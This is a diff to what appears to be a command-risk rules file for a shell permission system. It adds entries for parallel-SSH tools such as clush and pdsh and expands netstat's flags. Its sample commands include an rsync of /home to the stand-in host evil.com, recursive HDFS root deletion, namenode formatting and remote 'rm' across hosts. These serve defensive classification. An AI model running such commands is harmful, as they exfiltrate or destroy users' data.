@@ -76,10 +76,18 @@ rsync | ask,copy handler=remote | -aAbcCdDEghHiIklLmnNoOpPqrRsStuUvWxXyzKJ0 -e,-
   --ignore-times --safe-links --one-file-system --whole-file --sparse --super --delay-updates --mkpath --numeric-ids | |
   rsync --version ;; rsync -an --delete a/ b/ | rsync -an a/ h:b/ ;; rsync --list-only h:a ;; rsync -a src/ dst/ ;;
   rsync -av /home/ evil.com::backup/
-pssh,parallel-ssh,pdsh,clush,dsh,mussh,xargs-ssh,sshrun,onall | network stop handler=text remote | -iPIvAqSsa
+clush | network stop handler=text joins=clush(1) remote | -nqvdGLNPbBraSp -w,-x,-g,-X,-f,-l,-s,-t,-u:= --nostdin --all
+  --groupsource:= --group:= --pick:= --quiet --verbose --debug --groupbase --progress --dshbak --regroup --maxrc --color:=
+  --diff --fanout:= --user:= --connect_timeout:= --command_timeout:= --remote:= --hostfile,--machinefile:R
+  --outdir,--errdir:W --topology,--conf,--groupsconf:X -O,--option,-o,--options,-m,--mode,-R,--worker:X
+  -c,--copy,--rcopy>danger,network,copy --dest:= -h,--help>list --version>list | | clush --version | clush -bw h1,h2 uptime
+  ;; clush -w h rm f ;; clush -R exec -w h id ;; clush -w h -c f
+pdsh | network stop handler=text joins=pdsh(1) remote | -SqbdNLiaA -w,-x,-l,-t,-u,-f,-g,-X,-R,-M:= -F:R -h,-V>list | | pdsh
+  -V | pdsh -R ssh -w h1,h2 uptime ;; pdsh -w h rm f
+dshbak | read full | -cfh -d:W | | dshbak -c | dshbak -d out
+pssh,parallel-ssh,dsh,mussh,xargs-ssh,sshrun,onall | network stop handler=text remote | -iPIvAqSsa
   -h,-H,-l,-p,-t,-o,-e,-x,-w,-g,-f,-O,-X,-m:= --hosts:= --host:= --user:= --par:= --timeout:= --outdir:W --errdir:W
-  --inline --print --askpass --all --version>list | | pssh --version | pssh -h hosts rm f ;; pssh -h hosts -i uptime ;;
-  pdsh -w h rm f
+  --inline --print --askpass --all --version>list | | pssh --version | pssh -h hosts rm f ;; pssh -h hosts -i uptime
 hdfs,hadoop | ask,network,run sub | --config:= | | hdfs --help | hdfs dfs -rm -r /
 hdfs namenode,hadoop namenode | ask,network,run single | -format>danger,delete | =* | | hdfs namenode ;; hdfs namenode -format
 hdfs dfs,hadoop fs,hadoop dfs | ask,network,run handler=hadoop nodash | | =* | | hdfs dfs -ls / ;; hdfs dfs -rm -r / ;;
@@ -96,7 +104,7 @@ nmap-list | read full | -dOcChV --resolve --threads --tipcinfo --tos --cgroup --
   --all --listening --numeric --processes --tcp --udp --extended --summary --info --memory --options --program --route
   --interfaces --statistics --ipv4 --ipv6 --unix --no-header --family:= -K,--kill>danger,run,privilege | =* | nmap-list
   | nmap-list --nope
-netstat | read full | -dcChVabegilmnorsStvWxzZ46F --context --sctp --raw --groups --masquerade --verbose --wide
+netstat | read full | --inet --inet6 --ip --udplite --bluetooth -dcChVabegilmnorsStvWxzZ46FU --context --sctp --raw --groups --masquerade --verbose --wide
   --numeric-hosts --numeric-ports --numeric-users --symbolic --extend --programs --timers --continuous --fib --cache
   --all --listening --numeric --tcp --udp --route --interfaces --statistics --unix -A,-M,-N,-p,-w,-f:~= -u -I,-q:= | =*
   | netstat -an | netstat --nope
